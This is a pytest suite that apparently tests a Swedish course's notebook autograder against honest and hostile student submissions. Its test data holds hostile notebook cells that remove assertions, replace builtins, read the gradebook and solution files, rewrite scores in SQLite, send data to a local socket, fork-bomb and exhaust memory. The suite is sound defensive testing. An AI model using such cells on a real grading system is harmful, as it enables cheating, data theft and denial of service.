"""The hostile suite: a cohort of honest and hostile students, graded in one
`regionkurs cohort autograde --jobs 2` run through the CLI.

For each student: the expected score or the reported failure; and for all of
them together: every other student still graded, the gradebook, the course's
other files and the repository unchanged, no connection received.
"""

from __future__ import annotations

import sqlite3
import textwrap
from pathlib import Path

import nbformat
import pytest

from cohort_support import REPO, Listener, add_code, answer, cell, cli, fingerprint, released, report_rows, submit

from regionkurs.cohort import results
from regionkurs.cohort.answerfile import example_answers

pytestmark = pytest.mark.slow

# The solution's own keys, typed into the form's fields (grade id f01-svarN shows the field svar_fraga_N).
KEYS = example_answers(nbformat.read(REPO / "solutions" / "f01.ipynb", as_version=4).cells)["answers"]
CORRECT = {f"f01-svar{name.rsplit('_', 1)[1]}": value for name, value in KEYS.items()}
WRONG = {grade_id: "1" if value != "1" else "2" for grade_id, value in CORRECT.items()}  # another option each
FULL = len(CORRECT)  # one point per automatically graded question; the reflection is graded by hand
TOTAL = FULL + 3
ROSTER = "Användarnamn;Förnamn;Efternamn;E-post\n" + "\n".join(
    f"{s};Test;Student {i};{s}@example.org" for i, s in enumerate(
        ["correct", "wrong", "blank", "late", "badtime", "corrupt", "loop", "stubborn", "deleted", "edited",
         "transformer", "builtins", "reader", "writer", "source", "peeker", "network", "forkbomb", "memory",
         "printer", "absent"]))


def _answered(course: Path, answers: dict) -> nbformat.NotebookNode:
    nb = released(course)
    for grade_id, value in answers.items():
        answer(nb, grade_id, value)
    return nb


def _stealer(course: Path, paths: list[str], secret: str = "svar_fraga_1") -> str:
    """A cell that reads ``paths`` (each holds ``secret``); if it can, it answers correctly."""
    return textwrap.dedent(f"""\
        found = []
        for path in {paths!r}:
            try:
                with open(path, 'rb') as handle:
                    if {secret.encode()!r} in handle.read():
                        found.append(path)
            except Exception as error:
                print(type(error).__name__, path)
        if found:
            svar_fraga_1, svar_fraga_2, svar_fraga_3 = 2, 4, 1
        print('found', found)
        """)


def build_cohort(course: Path, port: int) -> dict[str, tuple]:
    """Write every student's submission; return student -> (expected status, score or reason, note)."""
    expected: dict[str, tuple] = {}
    d = str(course)

    submit(course, "correct", _answered(course, CORRECT))
    expected["correct"] = ("graded", FULL, "")

    submit(course, "wrong", _answered(course, WRONG))
    expected["wrong"] = ("graded", 0, "")

    submit(course, "blank", released(course))
    expected["blank"] = ("graded", 0, "")

    submit(course, "late", _answered(course, CORRECT), timestamp="2025-03-16 09:00:00.000000 UTC")
    expected["late"] = ("graded", FULL, "late by")

    submit(course, "badtime", _answered(course, CORRECT), timestamp="i går kväll")
    expected["badtime"] = ("failed", "unreadable timestamp.txt", "")

    text = nbformat.writes(_answered(course, CORRECT))
    submit(course, "corrupt", text[: len(text) // 2].encode())
    expected["corrupt"] = ("failed", "corrupt notebook", "")

    nb = _answered(course, CORRECT)
    add_code(nb, "while True:\n    pass", after="f01-svar2")
    submit(course, "loop", nb)
    expected["loop"] = ("failed", "timeout", "")

    nb = _answered(course, CORRECT)
    add_code(nb, textwrap.dedent("""\
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            try:
                time.sleep(0.01)
            except BaseException:
                pass
        """), after="f01-svar2")
    submit(course, "stubborn", nb)
    expected["stubborn"] = ("failed", "timeout", "")

    nb = _answered(course, CORRECT)
    nb.cells.remove(cell(nb, "f01-test1"))
    submit(course, "deleted", nb)
    expected["deleted"] = ("graded", FULL, "missing cells added: f01-test1")

    nb = _answered(course, WRONG)
    for grade_id in ("f01-test1", "f01-test2"):
        test = cell(nb, grade_id)
        test.source = "assert True"
        test.metadata.nbgrader["points"] = 100
    submit(course, "edited", nb)
    expected["edited"] = ("graded", 0, "test cells restored: f01-test1, f01-test2")

    nb = _answered(course, WRONG)
    add_code(nb, textwrap.dedent("""\
        import ast, builtins
        ip = get_ipython()
        ip.input_transformers_cleanup.append(
            lambda lines: [line.replace('assert ', 'pass  # ') for line in lines])
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        ip.ast_transformers.append(NoAsserts())
        builtins.AssertionError = type('AssertionError', (Exception,), {})
        builtins.abs = lambda x: 0
        """), after="f01-setup")
    submit(course, "transformer", nb)
    expected["transformer"] = ("graded", 0, "tampering detected: IPython input transformers; "
                                             "IPython AST transformers; builtins replaced (AssertionError, abs)")

    nb = _answered(course, WRONG)
    add_code(nb, "import builtins\nbuiltins.isinstance = lambda *args: True", after="f01-setup")
    submit(course, "builtins", nb)
    expected["builtins"] = ("failed", "timeout", "")  # it broke its own kernel: no points, a reported failure

    nb = _answered(course, WRONG)
    add_code(nb, _stealer(course, [f"{d}/gradebook.db", "../../gradebook.db", "../../../gradebook.db",
                                   "/proc/1/root" + f"{d}/gradebook.db"]), after="f01-svar2")
    submit(course, "reader", nb)
    expected["reader"] = ("graded", 0, "")

    nb = _answered(course, WRONG)
    add_code(nb, textwrap.dedent(f"""\
        import sqlite3
        for path in [{d + '/gradebook.db'!r}, '../../gradebook.db', '../../../gradebook.db']:
            try:
                db = sqlite3.connect(path)
                db.execute('CREATE TABLE hacked (x)')
                db.execute('UPDATE grade SET manual_score = 100')
                db.commit()
            except Exception as error:
                print(type(error).__name__, path, error)
            try:
                with open(path, 'ab') as handle:
                    handle.write(b'HACKED')
            except Exception as error:
                print(type(error).__name__, path, error)
        try:
            open({d + '/hacked.txt'!r}, 'w').write('HACKED')
        except Exception as error:
            print(type(error).__name__, error)
        """), after="f01-svar2")
    submit(course, "writer", nb)
    expected["writer"] = ("graded", 0, "")

    nb = _answered(course, WRONG)
    add_code(nb, _stealer(course, [f"{d}/source/f01/f01.ipynb", "../../../source/f01/f01.ipynb",
                                   f"{d}/release/f01/f01.ipynb", f"{REPO}/solutions/f01.ipynb",
                                   f"{d}/exchange/regionkurs/outbound/f01/f01.ipynb"]),
             after="f01-svar2")
    submit(course, "source", nb)
    expected["source"] = ("graded", 0, "")

    nb = _answered(course, WRONG)
    add_code(nb, _stealer(course, [f"{d}/submitted/correct/f01/f01.ipynb", "../../correct/f01/f01.ipynb",
                                   f"{d}/autograded/correct/f01/f01.ipynb"]),
             after="f01-svar2")
    submit(course, "peeker", nb)
    expected["peeker"] = ("graded", 0, "")

    nb = _answered(course, WRONG)
    add_code(nb, textwrap.dedent(f"""\
        import socket
        for host in ('127.0.0.1', 'localhost', '::1'):
            try:
                s = socket.create_connection((host, {port}), timeout=2)
                s.sendall(b'stolen')
                svar_fraga_1, svar_fraga_2, svar_fraga_3 = 2, 4, 1
            except Exception as error:
                print(type(error).__name__, host, error)
        """), after="f01-svar2")
    submit(course, "network", nb)
    expected["network"] = ("graded", 0, "")

    nb = _answered(course, CORRECT)
    add_code(nb, textwrap.dedent("""\
        import os, subprocess
        try:
            subprocess.run(['/bin/sh', '-c', 'echo child'])
        except Exception as error:
            print(type(error).__name__, error)
        while True:
            os.fork()
        """), after="f01-svar2")
    submit(course, "forkbomb", nb)
    expected["forkbomb"] = ("graded", FULL, "")

    nb = _answered(course, CORRECT)
    add_code(nb, "hog = bytearray(64 * 1024 ** 3)", after="f01-svar2")
    submit(course, "memory", nb)
    expected["memory"] = ("failed", "out of memory", "")

    nb = _answered(course, CORRECT)
    add_code(nb, "line = 'x' * 1_000_000\nfor _ in range(100):\n    print(line)", after="f01-svar2")
    submit(course, "printer", nb)
    expected["printer"] = ("failed", "output limit exceeded", "")

    expected["absent"] = ("not submitted", None, "")
    return expected


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One course, one roster, one release, one autograde run for the whole cohort."""
    course = tmp_path_factory.mktemp("cohort") / "kurs"
    cli("cohort", "init", str(course), check=True)
    roster = course.parent / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    cli("cohort", "roster", str(course), str(roster), check=True)
    cli("cohort", "release", str(course), "f01", "--due", "2025-03-14 17:00", check=True)
    listener = Listener()
    try:
        expected = build_cohort(course, listener.port)
        before = fingerprint(course, skip=("gradebook.db", "autograded", "reports", ".staging"))
        solutions_before = fingerprint(REPO / "solutions")
        result = cli("cohort", "autograde", str(course), "f01", "--jobs", "2", "--timeout", "15")
        after = fingerprint(course, skip=("gradebook.db", "autograded", "reports", ".staging"))
        yield {"course": course, "expected": expected, "result": result, "before": before, "after": after,
               "solutions": (solutions_before, fingerprint(REPO / "solutions")),
               "connections": listener.connections, "rows": report_rows(course)}
    finally:
        listener.close()


STUDENTS = ["correct", "wrong", "blank", "late", "badtime", "corrupt", "loop", "stubborn", "deleted", "edited",
            "transformer", "builtins", "reader", "writer", "source", "peeker", "network", "forkbomb", "memory",
            "printer", "absent"]


@pytest.mark.parametrize("student", STUDENTS)
def test_each_student_gets_the_expected_score_or_reported_failure(graded, student):
    status, value, note = graded["expected"][student]
    row = graded["rows"][student]
    if status == "graded":  # (an untouched reflection gets 0 from nbgrader: nothing to grade by hand)
        assert row["status"] in results.SCORED, row
    else:
        assert row["status"] == {"failed": results.FAILED}.get(status, status), row
    if status == "graded":
        assert float(row["score"]) == value, row
        assert float(row["max_score"]) == TOTAL, row
    elif status == "failed":
        assert value in row["reason"], row
        assert not (graded["course"] / "autograded" / student).exists()
    if note:
        assert note in row["notes"], row


def test_the_command_reports_failures_after_grading_everyone(graded):
    result = graded["result"]
    assert result.returncode == 1, result.stdout + result.stderr
    assert "7 could not be graded" in result.stdout
    for student in ("badtime", "corrupt", "loop", "stubborn", "builtins", "memory", "printer"):
        assert student in result.stdout
    assert "error: 7 submissions could not be graded" in result.stderr


def test_no_file_of_the_course_or_repository_changed(graded):
    assert graded["before"] == graded["after"]
    assert graded["solutions"][0] == graded["solutions"][1]
    assert not (graded["course"] / "hacked.txt").exists()
    assert not list(graded["course"].glob(".staging/*"))


def test_the_gradebook_holds_only_the_graders_writes(graded):
    course = graded["course"]
    assert b"HACKED" not in (course / "gradebook.db").read_bytes()
    db = sqlite3.connect(course / "gradebook.db")
    try:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type='table'")}
        assert "hacked" not in tables
        assert db.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone()[0] == 0
        graded_students = {row[0] for row in db.execute(
            "SELECT student.id FROM submitted_assignment JOIN student ON student.id = submitted_assignment.student_id")}
    finally:
        db.close()
    expected = {s for s, (status, _, _) in graded["expected"].items() if status == "graded"}
    assert graded_students == expected


def test_no_connection_reached_the_service_on_localhost(graded):
    assert graded["connections"] == 0


def test_feedback_is_swedish_and_hides_the_hidden_tests(graded):
    course = graded["course"]
    result = cli("cohort", "feedback", str(course), "f01", check=True)
    assert "wrote feedback for 13 submissions" in result.stdout
    page = (course / "feedback" / "wrong" / "f01" / "f01.html").read_text(encoding="utf-8")
    assert '<html lang="sv">' in page
    assert f"Återkoppling på f01: 0 av {TOTAL} poäng" in page
    assert "Att bjuda in många räcker inte." in page  # the feedback on the option the student chose
    for hidden in ("BEGIN HIDDEN TESTS", "assert svar_fraga_1", "assert svar_fraga_2", "most recent call last",
                   "Cell In["):
        assert hidden not in page
    correct_page = course / "feedback" / "correct" / "f01" / "f01.html"
    assert f"Återkoppling på f01: {FULL} av {TOTAL} poäng" in correct_page.read_text(
        encoding="utf-8")
    for failed in ("corrupt", "loop", "memory"):
        assert not (course / "feedback" / failed).exists()


@pytest.mark.parametrize("fmt", ["nbgrader", "canvas", "moodle"])
def test_export_keeps_not_submitted_and_not_graded_apart_from_zero(graded, fmt, tmp_path):
    import csv
    out = tmp_path / f"grades-{fmt}.csv"
    result = cli("cohort", "export", str(graded["course"]), "-o", str(out), "--format", fmt, check=True)
    assert "could not be graded: loop f01 (timeout" in result.stdout
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    header = rows[0]
    if fmt == "nbgrader":
        table = {r[header.index("student_id")]: dict(zip(header, r)) for r in rows[1:]}
        assert table["wrong"]["score"] == "0" and table["wrong"]["status"] == results.FINAL
        assert table["correct"]["score"] == str(FULL)
        assert table["loop"]["score"] == "" and table["loop"]["status"] == "could not be graded"
        assert table["absent"]["score"] == "" and table["absent"]["status"] == "not submitted"
    elif fmt == "canvas":
        assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
        assert rows[1][0] == "Points Possible" and rows[1][5] == str(TOTAL)
        table = {r[3]: r for r in rows[2:]}
        assert table["wrong"][5] == "0" and table["correct"][5] == str(FULL)
        assert table["loop"][5] == "" and table["absent"][5] == ""
    else:
        table = {r[0]: r for r in rows[1:]}
        assert header[4:6] == ["f01", "f01 kommentar"]
        assert table["wrong"][4] == "0" and table["correct"][4] == str(FULL)
        assert table["loop"][4] == "" and "kunde inte rättas" in table["loop"][5]
        assert table["absent"][4] == "" and table["absent"][5] == "Inte inlämnad."
    assert out.stat().st_mode & 0o077 == 0


def test_plain_nbgrader_commands_keep_working_in_the_course(graded, tmp_path):
    import csv
    import os
    import subprocess

    from cohort_support import VENV_BIN
    course = graded["course"]
    env = dict(os.environ, PATH=f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}")

    def nbgrader(*args: str) -> None:
        done = subprocess.run([str(VENV_BIN / "nbgrader"), *args], cwd=course, env=env, capture_output=True,
                              text=True, timeout=600)
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]

    nbgrader("export", f"--to={tmp_path / 'grades.csv'}")
    rows = {r["student_id"]: r for r in csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8"))}
    assert float(rows["correct"]["score"]) == FULL and float(rows["late"]["score"]) == FULL
    nbgrader("generate_feedback", "f01", "--student=edited", "--force")
    page = (course / "feedback" / "edited" / "f01" / "f01.html").read_text(encoding="utf-8")
    assert '<html lang="sv">' in page and "BEGIN HIDDEN TESTS" not in page and "assert svar_fraga_1" not in page
